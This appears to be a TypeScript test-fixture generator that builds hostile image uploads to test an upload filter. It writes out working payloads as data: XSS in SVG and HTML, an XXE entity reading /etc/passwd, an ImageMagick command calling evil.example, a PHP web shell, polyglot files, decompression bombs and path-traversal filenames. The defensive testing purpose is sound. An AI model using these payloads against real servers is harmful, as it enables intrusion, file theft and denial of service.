import { zipSync } from 'fflate';
import { gzipSync } from 'node:zlib';
import sharp from 'sharp';
import {
  blackPng,
  foreign,
  hugeWebp,
  pngChunk,
  resizedAvif,
  resizedHeader,
  samplePhoto,
  samplePicture,
  stripes,
  textBomb,
  withComment,
  type SampleKind,
} from './sample-pictures.ts';

/** An upload that means no good, and what must become of it: refused with one of these messages, or kept as nothing but pixels. */
export interface Hostile {
  readonly name: string;
  readonly bytes: Buffer;
  /** As the sender calls it. */
  readonly fileName: string;
  readonly contentType: string;
  readonly expected: 'clean' | readonly string[];
}

const script = `<script>alert("${foreign}")</script>`;
const html = Buffer.from(`<!doctype html><html><body>${script}</body></html>`);
const zip = (): Buffer =>
  Buffer.from(
    zipSync(
      { 'META-INF/MANIFEST.MF': Buffer.from(foreign), 'Evil.class': Buffer.from(foreign) },
      { level: 0 },
    ),
  );
const kind = ['pictures_problem_kind'];
const broken = ['pictures_problem_broken'];
const kinds: readonly SampleKind[] = ['jpeg', 'png', 'webp', 'avif'];

type Given = { random: () => number; samples: Record<SampleKind, Buffer>; photo: Buffer };
type Maker = (given: Given) => Omit<Hostile, 'name'> | Promise<Omit<Hostile, 'name'>>;

const one = <T>(list: readonly T[], random: () => number): T => list[Math.floor(random() * list.length)] as T;
const sent = (
  bytes: Buffer | string,
  expected: Hostile['expected'],
  fileName = 'photo.jpg',
  contentType = 'image/jpeg',
): Omit<Hostile, 'name'> => ({ bytes: Buffer.from(bytes as Buffer), expected, fileName, contentType });
const bytesOf = (length: number, random: () => number): Buffer =>
  Buffer.from(Uint8Array.from({ length }, () => random() * 256));

const made = new Map<string, Promise<Buffer>>();
/** As large as a picture may be that has to be unpacked whole; made once, for it takes seconds. */
function largest(of: 'jpeg' | 'webp' | 'avif'): Promise<Buffer> {
  const sides = of === 'avif' ? { width: 3200, height: 2500 } : { width: 5000, height: 5000 };
  const image = sharp({ create: { ...sides, channels: 3, background: '#2f7f8f' } });
  const file = {
    jpeg: () => image.jpeg({ progressive: true }),
    webp: () => image.webp({ effort: 0 }),
    avif: () => image.avif({ effort: 0 }),
  };
  const known = made.get(of) ?? file[of]().toBuffer();
  made.set(of, known);
  return known;
}

/** Gives every sample of a kind of attack; `random` draws what differs between two of them. */
export const hostileKinds: Readonly<Record<string, Maker>> = {
  // Not a picture of ours at all, whatever it says.
  'HTML called a photo': () => sent(html, kind),
  'SVG with a script': () =>
    sent(
      `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900">${script}</svg>`,
      kind,
      'drawing.svg',
      'image/svg+xml',
    ),
  'SVG called PNG': () =>
    sent(
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
      kind,
      'a.png',
      'image/png',
    ),
  'SVG, compressed': () =>
    sent(gzipSync(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), kind, 'a.svgz'),
  'SVG that reads a file': () =>
    sent(
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
      kind,
      'a.png',
      'image/png',
    ),
  'instructions for ImageMagick': () =>
    sent(
      `push graphic-context\nimage over 0,0 0,0 'https://evil.example/|touch /tmp/x'\npop graphic-context`,
      kind,
      'a.png',
    ),
  PDF: () =>
    sent(
      `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("${foreign}"))>>>>endobj`,
      kind,
      'a.pdf',
      'application/pdf',
    ),
  GIF: async () => sent(await stripes(400, 400).gif().toBuffer(), kind, 'a.gif', 'image/gif'),
  'GIF that is an archive (GIFAR)': async () =>
    sent(Buffer.concat([await stripes(400, 400).gif().toBuffer(), zip()]), kind, 'a.gif', 'image/gif'),
  'GIF that is a script': () =>
    sent(`GIF89a/*${'\0'.repeat(9)}*/=1;alert("${foreign}")`, kind, 'a.gif', 'image/gif'),
  TIFF: async () => sent(await stripes(400, 400).tiff().toBuffer(), kind, 'a.tiff', 'image/tiff'),
  BMP: ({ random }) =>
    sent(Buffer.concat([Buffer.from('BM'), bytesOf(3000, random)]), kind, 'a.bmp', 'image/bmp'),
  archive: () => sent(zip(), kind, 'photo.jpg'),
  program: ({ random }) =>
    sent(Buffer.concat([Buffer.from('\x7fELF', 'latin1'), bytesOf(5000, random)]), kind),
  PHP: () => sent(`<?php system($_GET["c"]); // ${foreign}`, kind, 'shell.php.jpg'),
  HEIC: ({ samples }) => {
    const heic = Buffer.from(samples.avif);
    for (let at = heic.indexOf('avif'); at >= 0 && at < 64; at = heic.indexOf('avif'))
      heic.write('heic', at, 'latin1');
    return sent(heic, kind, 'a.heic', 'image/heic');
  },
  noise: ({ random }) => sent(bytesOf(1 + Math.floor(random() * 20_000), random), kind),
  nothing: () => sent('', ['pictures_problem_empty'], 'empty.png', 'image/png'),
  'one byte': () => sent('\xff', kind),
  // It begins as a picture, and is none.
  'the first bytes of a JPEG, then HTML': () =>
    sent(Buffer.concat([Buffer.from('\xff\xd8\xff\xe0', 'latin1'), html]), broken),
  'the first bytes of a PNG, then HTML': () =>
    sent(Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), html]), broken, 'a.png'),
  'the first bytes of a WebP, then noise': ({ random }) =>
    sent(
      Buffer.concat([Buffer.from('RIFF\x20\0\0\0WEBP', 'latin1'), bytesOf(2000, random)]),
      broken,
      'a.webp',
    ),
  'the first bytes of an AVIF, then noise': ({ random }) =>
    sent(
      Buffer.concat([Buffer.from('\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf', 'latin1'), bytesOf(2000, random)]),
      broken,
      'a.avif',
    ),
  'cut short': ({ samples, random }) => {
    const bytes = samples[one(kinds, random)];
    return sent(bytes.subarray(0, Math.floor(bytes.length * (0.05 + random() * 0.85))), [...broken, ...kind]);
  },
  'with noise in the middle': ({ samples, random }) => {
    const bytes = Buffer.from(samples[one(['png', 'avif'] as const, random)]);
    bytesOf(400, random).copy(bytes, Math.floor(bytes.length * (0.3 + random() * 0.4)));
    return sent(bytes, [...broken, 'either']);
  },
  // Too much of it.
  'PNG of a hundred megapixels': () =>
    sent(blackPng(10_000, 10_000), ['pictures_problem_pixels'], 'a.png', 'image/png'),
  'PNG with a side that is too long': () =>
    sent(blackPng(100_000, 400), ['pictures_problem_large'], 'a.png', 'image/png'),
  'PNG of four thousand megapixels, by its header': () => {
    const header = Buffer.alloc(13);
    header.writeUInt32BE(65_000, 0);
    header.writeUInt32BE(65_000, 4);
    header.set([8, 6], 8);
    const png = [
      Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
      pngChunk('IHDR', header),
      pngChunk('IDAT', Buffer.alloc(20)),
    ];
    return sent(Buffer.concat(png), ['pictures_problem_large', ...broken], 'a.png', 'image/png');
  },
  'PNG with text that unpacks to a hundred megabytes': () =>
    sent(blackPng(600, 600, [textBomb(100)]), ['either', ...broken], 'a.png', 'image/png'),
  'JPEG that says it is as large as can be': ({ samples }) =>
    sent(resizedHeader(samples.jpeg, 65_500, 65_500), ['pictures_problem_large']),
  'JPEG that says it is a hundred megapixels': ({ samples }) =>
    sent(resizedHeader(samples.jpeg, 10_000, 10_000), ['pictures_problem_pixels']),
  'JPEG that says it is forty megapixels': ({ samples }) =>
    sent(resizedHeader(samples.jpeg, 8000, 5000), ['either', ...broken]),
  'WebP that says it is as large as can be': () =>
    sent(hugeWebp(), ['pictures_problem_large', ...broken], 'a.webp', 'image/webp'),
  'AVIF that says it is huge': ({ samples }) =>
    sent(
      resizedAvif(samples.avif, 11_000, 11_000),
      ['pictures_problem_pixels', ...broken],
      'a.avif',
      'image/avif',
    ),
  'larger than ten megabytes': ({ samples, random }) =>
    sent(
      Buffer.concat([samples.jpeg, Buffer.alloc(10_000_001 + Math.floor(random() * 20_000_000), foreign)]),
      ['pictures_problem_bytes'],
    ),
  'nearly ten megabytes, most of it no picture': ({ samples }) =>
    sent(Buffer.concat([samples.jpeg, Buffer.alloc(9_900_000 - samples.jpeg.length, foreign)]), 'clean'),
  'PNG as large as is taken': () => sent(blackPng(8000, 6250), 'clean', 'a.png', 'image/png'),
  'JPEG in passes, as large as is taken': async () => sent(await largest('jpeg'), 'clean'),
  'WebP as large as is taken': async () => sent(await largest('webp'), 'clean', 'a.webp', 'image/webp'),
  'AVIF as large as is taken': async () => sent(await largest('avif'), 'clean', 'a.avif', 'image/avif'),
  'too small': async ({ random }) =>
    sent(await samplePicture(one(['jpeg', 'png', 'webp'] as const, random), { width: 16, height: 16 }), [
      'pictures_problem_small',
    ]),
  animation: async () =>
    sent(
      await sharp(Buffer.alloc(400 * 1200 * 3, 90), {
        raw: { width: 400, height: 1200, channels: 3, pageHeight: 400 },
      })
        .webp({ loop: 0, delay: [100, 100, 100] })
        .toBuffer(),
      ['pictures_problem_moving', 'either'],
      'a.webp',
      'image/webp',
    ),
  // Pictures, with something else inside: of these only the pixels may be left.
  'photo that says where it was taken': ({ photo }) => sent(photo, 'clean'),
  'JPEG and HTML': ({ samples }) => sent(withComment(samples.jpeg, html), 'clean', 'page.html', 'text/html'),
  'JPEG and archive': ({ samples }) =>
    sent(Buffer.concat([samples.jpeg, zip()]), 'clean', 'a.jar', 'application/java-archive'),
  'JPEG and PDF': ({ samples }) =>
    sent(
      withComment(samples.jpeg, Buffer.from(`%PDF-1.7\n(${foreign})`)),
      'clean',
      'a.pdf',
      'application/pdf',
    ),
  'PNG and archive': ({ samples }) =>
    sent(Buffer.concat([samples.png, zip()]), 'clean', 'a.zip', 'application/zip'),
  'PNG and HTML': ({ samples }) =>
    sent(
      Buffer.concat([
        samples.png.subarray(0, 33),
        pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), html])),
        samples.png.subarray(33),
      ]),
      'clean',
      'a.html',
      'text/html',
    ),
  'WebP and script': ({ samples }) =>
    sent(Buffer.concat([samples.webp, html]), 'clean', 'a.js', 'text/javascript'),
  // Sound, under a false name.
  'path in the name': ({ samples, random }) =>
    sent(
      samples[one(kinds, random)],
      'clean',
      one(
        [
          '../../../../etc/passwd',
          '..\\..\\server.js',
          '/etc/cron.d/x',
          'C:\\boot.ini',
          '%2e%2e%2fx',
          'a\u0000.php',
        ],
        random,
      ),
    ),
  'script in the name': ({ samples }) =>
    sent(samples.png, 'clean', `"><script>alert(1)</script>.png`, 'image/png'),
  'name of ten thousand letters': ({ samples }) => sent(samples.webp, 'clean', `${'a'.repeat(10_000)}.webp`),
  'false type': ({ samples, random }) =>
    sent(
      samples[one(kinds, random)],
      'clean',
      'index.html',
      one(['text/html', 'image/svg+xml', 'application/x-httpd-php', 'x/y; charset="', ''], random),
    ),
};

/** So many hostile uploads, each kind as often as every other; the same for the same numbers. */
export async function* hostilePictures(count: number, random: () => number): AsyncGenerator<Hostile> {
  const makers = Object.entries(hostileKinds);
  const photo = await samplePhoto();
  for (let n = 0; n < count; n += 1) {
    const [name, make] = makers[n % makers.length] as [string, Maker];
    const samples = Object.fromEntries(
      await Promise.all(
        kinds.map(async (of) => [of, await samplePicture(of, { width: 640, height: 480, shade: n })]),
      ),
    ) as Record<SampleKind, Buffer>;
    yield { name, ...(await make({ random, samples, photo })) };
  }
}
